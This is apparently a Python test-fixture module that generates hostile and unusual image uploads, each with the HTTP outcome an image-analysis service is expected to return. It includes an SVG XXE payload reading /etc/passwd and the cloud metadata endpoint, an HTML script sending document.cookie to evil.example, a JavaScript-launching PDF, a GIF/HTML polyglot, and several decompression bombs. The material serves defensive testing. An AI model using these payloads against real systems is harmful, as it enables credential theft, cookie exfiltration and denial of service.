"""A corpus of hostile and odd uploads, generated in code, each with its expected outcome.

Nothing here is downloaded or committed as a binary: every case is a small builder
that makes its bytes on demand (the 50 MB noise case only when an HTTP test asks).
Expected outcomes follow README "Errors": 400 ``bad_input``, 413 ``payload_too_large``,
415 ``unsupported_media_type``, or 200 for odd but valid rasters.

Decisions worth stating:

* A GIF/HTML polyglot (a GIF that decodes, with HTML and script in a comment block and
  after the trailer) is analysed as the image it is (200). The service judges bytes by
  content, never echoes an upload back and never serves it with any content type, so
  the HTML half is inert; refusing it would mean guessing at intent from trailing junk.
* Bombs are refused from what the header (or the GIF block structure) declares: 413
  naming pixels or frames, before a pixel is decoded.
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field

from PIL import Image

OK = 200
BAD = (400, "bad_input")
TOO_LARGE = (413, "payload_too_large")
UNSUPPORTED = (415, "unsupported_media_type")


@dataclass(frozen=True)
class HostileCase:
    """One upload and what the service must answer.

    ``status`` is the HTTP status; ``code`` the error code (``None`` for 200).
    ``mentions`` is a word the error message must contain (e.g. ``pixels``).
    ``size``/``frames`` are the upload's facts a 200 must report (``None``: not checked).
    ``http_only`` cases are too big to build for the unit tests (built lazily).
    """

    name: str
    filename: str
    build: Callable[[], bytes] = field(repr=False)
    status: int
    code: str | None = None
    mentions: str = ""
    size: tuple[int, int] | None = None
    frames: int | None = None
    http_only: bool = False
    why: str = ""

    @property
    def ok(self) -> bool:
        return self.status == OK


# --------------------------------------------------------------------------- builders


def _encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    img.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def _png(width: int, height: int, depth: int, colour: int, raw: bytes, extra: bytes = b"") -> bytes:
    """A PNG from its IHDR fields and already-filtered raw scanlines."""
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + extra
        + _png_chunk(b"IDAT", zlib.compress(raw, 9))
        + _png_chunk(b"IEND", b"")
    )


def svg_xxe() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        b'<!ENTITY remote SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
        b"<text x='0' y='20'>&xxe;&remote;</text></svg>\n"
    )


def html_page() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><head><title>meme</title></head><body>"
        b"<img src=x onerror=\"fetch('/v1/status').then(r=>r.text()).then(alert)\">"
        b"<script>document.location='http://evil.example/?c='+document.cookie</script>"
        b"</body></html>\n"
    )


def pdf_document() -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /S /JavaScript /JS (app.alert('pwned')) >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


POLYGLOT_HTML = b"<html><body><script>alert(document.domain)</script></body></html>"


def gif_html_polyglot() -> bytes:
    """A decodable 32x32 GIF carrying HTML/JS in a comment block and after its trailer."""
    img = Image.new("RGB", (32, 32), (10, 200, 30))
    return _encode(img, "GIF", comment=POLYGLOT_HTML) + b"\n" + POLYGLOT_HTML + b"\n"


def png_bomb() -> bytes:
    """6400x6400 greyscale (41 Mpx > 40 Mpx) with a complete, valid ~40 KB zlib stream."""
    width = height = 6400
    return _png(width, height, 8, 0, (b"\x00" * (width + 1)) * height)


def png_header_65535() -> bytes:
    """IHDR claims 65535x65535 RGB; the IDAT holds only a few compressed rows."""
    return _png(65535, 65535, 8, 2, b"\x00" * (1 + 65535 * 3) * 4)


GIF_PALETTE = b"\x00\x00\x00\xff\xff\xff\xff\x00\x00\x00\x00\xff"  # 4 colours
# LZW for one pixel of colour 0 with minimum code size 2: clear, 0, end-of-information.
_ONE_PIXEL_LZW = b"\x02\x02\x44\x01\x00"


def _gif(screen: tuple[int, int], frames: list[tuple[int, int, int, int]]) -> bytes:
    """A GIF89a whose frames are (x, y, w, h) descriptors, each with one pixel of data."""
    out = b"GIF89a" + struct.pack("<HHBBB", screen[0], screen[1], 0x81, 0, 0) + GIF_PALETTE
    for x, y, w, h in frames:
        out += b"\x21\xf9\x04\x00\x02\x00\xff\x00"  # graphic control: 20 ms
        out += b"\x2c" + struct.pack("<HHHHB", x, y, w, h, 0) + _ONE_PIXEL_LZW
    return out + b"\x3b"


def gif_screen_bomb() -> bytes:
    """Logical screen and frame 65535x65535, five bytes of pixel data."""
    return _gif((65535, 65535), [(0, 0, 65535, 65535)])


def gif_frames(count: int) -> bytes:
    """A 16x16 animation of ``count`` 1x1 frames at moving positions."""
    return _gif((16, 16), [(i % 16, (i // 16) % 16, 1, 1) for i in range(count)])


def gif_late_frame_bomb() -> bytes:
    """A 16x16 screen whose second frame is a valid 7000x7000 (49 Mpx) LZW stream (~37 KB).

    Only the first frame fits the declared screen; a decoder that grows the canvas to
    the later frame's extent allocates and decodes 49 Mpx per sampled frame.
    """
    big = Image.new("P", (7000, 7000), 0)
    big.putpalette(list(GIF_PALETTE))
    encoded = _encode(big, "GIF")
    flags = encoded[10]
    body_start = 13 + ((3 << ((flags & 7) + 1)) if flags & 0x80 else 0)
    first = b"\x21\xf9\x04\x00\x02\x00\xff\x00\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    return (
        encoded[:6]
        + struct.pack("<HH", 16, 16)
        + encoded[10:body_start]
        + first
        + _ONE_PIXEL_LZW
        + encoded[body_start:]
    )


def jpeg_sof_65535() -> bytes:
    """SOI + a baseline SOF0 declaring 65535x65535x3 + EOI, nothing else."""
    sof = struct.pack(">HBHHB", 17, 8, 65535, 65535, 3) + b"\x01\x11\x00\x02\x11\x00\x03\x11\x00"
    return b"\xff\xd8\xff\xc0" + sof + b"\xff\xd9"


def bmp_header_bomb() -> bytes:
    """BITMAPINFOHEADER declaring 65535x65535 at 24 bpp with 16 bytes of pixels."""
    info = struct.pack("<IiiHHIIiiII", 40, 65535, 65535, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + 40 + 16, 0, 0, 54) + info + b"\x00" * 16


def webp_header_bomb() -> bytes:
    """A lossless (VP8L) WebP header declaring 16384x16384; the bitstream is zeros."""
    bits = (16384 - 1) | ((16384 - 1) << 14)
    body = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 20
    return (
        b"RIFF"
        + struct.pack("<I", 12 + len(body))
        + b"WEBPVP8L"
        + struct.pack("<I", len(body))
        + body
    )


def apng_frame_count_lie() -> bytes:
    """A 4x4 APNG whose acTL declares 1,000,000 frames (only one is present)."""
    actl = _png_chunk(b"acTL", struct.pack(">II", 1_000_000, 0))
    fctl = _png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 4, 4, 0, 0, 1, 10, 0, 0))
    return _png(4, 4, 8, 2, (b"\x00" + b"\x80" * 12) * 4, extra=actl + fctl)


def png_ztxt_bomb() -> bytes:
    """A valid 8x8 PNG with a zTXt chunk inflating to 64 MiB (text-chunk bomb)."""
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (64 << 20), 9))
    return _png(8, 8, 8, 2, (b"\x00" + b"\x40" * 24) * 8, extra=ztxt)


def _noisy(size: tuple[int, int], seed: int = 7) -> Image.Image:
    rng = random.Random(seed)
    return Image.frombytes("RGB", size, rng.randbytes(size[0] * size[1] * 3))


def truncated_jpeg() -> bytes:
    data = _encode(_noisy((256, 256)), "JPEG", quality=90)
    return data[: len(data) // 2]


def cmyk_jpeg() -> bytes:
    return _encode(Image.new("CMYK", (48, 32), (200, 0, 0, 0)), "JPEG", quality=90)


def png_16bit_grey() -> bytes:
    """I;16 greyscale, written by hand: a horizontal ramp over the full 16-bit range."""
    width, height = 64, 8
    row = b"\x00" + b"".join(struct.pack(">H", x * 1040) for x in range(width))
    return _png(width, height, 16, 0, row * height)


def png_16bit_rgb() -> bytes:
    """16-bit-per-channel RGB, written by hand."""
    width, height = 40, 20
    pixel = struct.pack(">HHH", 65535, 32768, 0)
    return _png(width, height, 16, 2, (b"\x00" + pixel * width) * height)


def palette_png_transparent() -> bytes:
    img = Image.new("P", (30, 20), 0)
    img.putpalette([0, 0, 0, 255, 0, 0] + [0] * (254 * 3))
    img.paste(1, (0, 0, 15, 20))
    return _encode(img, "PNG", transparency=0)


def noise_50mb() -> bytes:
    return random.Random(50).randbytes(50 * 1024 * 1024)


def bmp_image() -> bytes:
    return _encode(_noisy((33, 17)), "BMP")


def webp_image() -> bytes:
    return _encode(_noisy((48, 40)), "WEBP", quality=80)


def webp_animated() -> bytes:
    frames = [Image.new("RGB", (40, 30), (i * 60, 255 - i * 60, 90)) for i in range(4)]
    buffer = io.BytesIO()
    frames[0].save(
        buffer, format="WEBP", save_all=True, append_images=frames[1:], duration=80, loop=0
    )
    return buffer.getvalue()


def exif_rotated_jpeg() -> bytes:
    """Stored 60x20 with EXIF orientation 6 (rotate 90° clockwise): shown as 20x60."""
    img = Image.new("RGB", (60, 20), (250, 250, 0))
    exif = Image.Exif()
    exif[0x0112] = 6
    return _encode(img, "JPEG", exif=exif.tobytes())


def one_pixel_png() -> bytes:
    return _encode(Image.new("RGB", (1, 1), (255, 0, 0)), "PNG")


def extreme_aspect_png() -> bytes:
    return _encode(Image.new("L", (10000, 20), 128), "PNG")


def tiff_image() -> bytes:
    return _encode(Image.new("RGB", (16, 16), (1, 2, 3)), "TIFF")


def ico_image() -> bytes:
    return _encode(Image.new("RGB", (32, 32), (1, 2, 3)), "ICO")


CASES: tuple[HostileCase, ...] = (
    HostileCase("svg-xxe", "evil.jpg", svg_xxe, *UNSUPPORTED, "svg", why="XXE; never parsed"),
    HostileCase("html-as-jpg", "page.jpg", html_page, *UNSUPPORTED, "html"),
    HostileCase("pdf-as-jpg", "doc.jpg", pdf_document, *UNSUPPORTED, "pdf"),
    HostileCase(
        "gif-html-polyglot",
        "polyglot.gif.html",
        gif_html_polyglot,
        OK,
        size=(32, 32),
        frames=1,
        why="a GIF that decodes is analysed as an image, never served back",
    ),
    HostileCase("png-bomb-41mpx", "bomb.png", png_bomb, *TOO_LARGE, "pixels"),
    HostileCase("png-header-65535", "huge.png", png_header_65535, *TOO_LARGE, "pixels"),
    HostileCase("gif-bomb-screen", "bomb.gif", gif_screen_bomb, *TOO_LARGE, "pixels"),
    HostileCase(
        "gif-bomb-late-frame",
        "late.gif",
        gif_late_frame_bomb,
        *TOO_LARGE,
        "pixels",
        why="frame 2 outgrows the 16x16 screen to 7000x7000",
    ),
    HostileCase("jpeg-sof-65535", "huge.jpg", jpeg_sof_65535, *TOO_LARGE, "pixels"),
    HostileCase("bmp-header-65535", "huge.bmp", bmp_header_bomb, *TOO_LARGE, "pixels"),
    HostileCase("webp-header-16384", "huge.webp", webp_header_bomb, *TOO_LARGE, "pixels"),
    HostileCase("apng-frame-count-lie", "lie.png", apng_frame_count_lie, *TOO_LARGE, "frames"),
    HostileCase(
        "png-ztxt-bomb",
        "text.png",
        png_ztxt_bomb,
        *BAD,
        "",
        why="Pillow refuses text chunks inflating past its cap",
    ),
    HostileCase("truncated-jpeg", "cut.jpg", truncated_jpeg, *BAD, "truncated"),
    HostileCase("cmyk-jpeg", "cmyk.jpg", cmyk_jpeg, OK, size=(48, 32), frames=1),
    HostileCase("png-16bit-grey", "grey16.png", png_16bit_grey, OK, size=(64, 8), frames=1),
    HostileCase("png-16bit-rgb", "rgb16.png", png_16bit_rgb, OK, size=(40, 20), frames=1),
    HostileCase(
        "palette-png-transparent", "pal.png", palette_png_transparent, OK, size=(30, 20), frames=1
    ),
    HostileCase(
        "gif-1000-frames", "many.gif", lambda: gif_frames(1000), OK, size=(16, 16), frames=1000
    ),
    HostileCase("gif-2001-frames", "too-many.gif", lambda: gif_frames(2001), *TOO_LARGE, "frames"),
    HostileCase("zero-bytes", "empty.jpg", lambda: b"", *BAD, "empty"),
    HostileCase(
        "noise-50mb",
        "noise.jpg",
        noise_50mb,
        *TOO_LARGE,
        "",
        http_only=True,
        why="over limits.max_bytes (10 MiB)",
    ),
    HostileCase("bmp", "img.bmp", bmp_image, OK, size=(33, 17), frames=1),
    HostileCase("webp", "img.webp", webp_image, OK, size=(48, 40), frames=1),
    HostileCase("webp-animated", "anim.webp", webp_animated, OK, size=(40, 30), frames=4),
    HostileCase("exif-rotated-jpeg", "rot.jpg", exif_rotated_jpeg, OK, size=(20, 60), frames=1),
    HostileCase("one-pixel", "dot.png", one_pixel_png, OK, size=(1, 1), frames=1),
    HostileCase("aspect-10000x20", "strip.png", extreme_aspect_png, *BAD, "aspect ratio"),
    HostileCase("tiff", "img.tiff", tiff_image, *UNSUPPORTED, "tiff"),
    HostileCase("ico", "favicon.ico", ico_image, *UNSUPPORTED, "ico"),
)

UNIT_CASES: tuple[HostileCase, ...] = tuple(case for case in CASES if not case.http_only)
